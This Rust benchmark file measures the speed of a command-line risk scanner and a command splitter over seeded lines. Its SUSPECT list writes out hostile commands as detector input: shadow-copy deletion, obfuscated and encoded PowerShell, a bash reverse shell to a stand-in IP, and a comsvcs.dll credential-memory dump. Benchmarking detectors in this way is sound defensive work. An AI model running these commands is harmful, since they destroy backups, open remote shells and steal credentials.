//! `command_risk` and `command_split` on generated command lines: seeded, so that every run sees the same.

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use huntsql_kernels::process::{Platform, RiskOptions, Scanner, Words, command_split};
use std::hint::black_box;

/// xorshift64: enough to vary lines.
struct Seeded(u64);

impl Seeded {
    fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 33) as usize % bound
    }

    fn pick<'t>(&mut self, from: &[&'t str]) -> &'t str {
        from.get(self.below(from.len())).copied().unwrap_or_default()
    }
}

const HARMLESS: &[&str] = &[
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
    "\"C:\\Program Files\\Monitoring Agent\\HealthService.exe\" -start",
    "/usr/lib/systemd/systemd-logind --no-pager",
    "/usr/bin/python3 /opt/agent/collect.py --retries 5",
    "git commit -m fix",
    "ls -la /srv/data",
];

const SUSPECT: &[&str] = &[
    "vssadmin delete shadows /all /quiet",
    "p^o^w^e^r^s^h^e^l^l -nop -w hidden -c x",
    "powershell -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzAA==",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\x.dmp full",
];

fn lines(suspect_in_a_hundred: usize) -> Vec<String> {
    let mut seeded = Seeded(0x9e37_79b9_7f4a_7c15);
    let line = |id: usize| {
        let from = if seeded.below(100) < suspect_in_a_hundred { SUSPECT } else { HARMLESS };
        format!("{} {id}", seeded.pick(from))
    };
    (0..10_000).map(line).collect()
}

fn risk(c: &mut Criterion) {
    let options = RiskOptions::default();
    let mut group = c.benchmark_group("command_risk");
    for (name, lines) in [("harmless", lines(0)), ("one_in_ten_suspect", lines(10)), ("all_suspect", lines(100))] {
        group.throughput(Throughput::Elements(lines.len() as u64));
        group.bench_function(name, |b| {
            let mut scanner = Scanner::default();
            b.iter(|| lines.iter().map(|line| scanner.scan(black_box(line), &options).len()).sum::<usize>());
        });
    }
    group.finish();
}

fn split(c: &mut Criterion) {
    let lines = lines(10);
    let mut group = c.benchmark_group("command_split");
    group.throughput(Throughput::Elements(lines.len() as u64));
    for (name, platform) in [("windows", Platform::Windows), ("posix", Platform::Posix)] {
        group.bench_function(name, |b| {
            let mut words = Words::default();
            b.iter(|| {
                let count = |line: &String| {
                    command_split(black_box(line), platform, &mut words);
                    words.iter().count()
                };
                lines.iter().map(count).sum::<usize>()
            });
        });
    }
    group.finish();
}

criterion_group!(benches, risk, split);
criterion_main!(benches);
